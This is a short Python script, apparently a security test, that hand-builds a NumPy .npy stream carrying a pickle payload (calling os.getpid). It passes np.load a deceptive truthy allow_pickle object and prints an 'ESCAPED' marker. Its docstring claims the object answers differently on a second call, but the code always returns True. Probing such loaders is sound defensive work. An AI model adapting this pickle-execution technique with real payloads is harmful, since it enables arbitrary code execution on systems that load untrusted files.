"""allow_pickle is an object that answers differently the second time."""
import io
import numpy as np


class Flag:
    times = 0

    def __bool__(self):
        Flag.times += 1
        return Flag.times > 0


header = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).ljust(117).encode() + b"\n"
stream = io.BytesIO(b"\x93NUMPY\x01\x00v\x00" + header + b"cposix\ngetpid\n(tR.")
print("ESCAPED:flag_that_lies", np.load(stream, allow_pickle=Flag()))
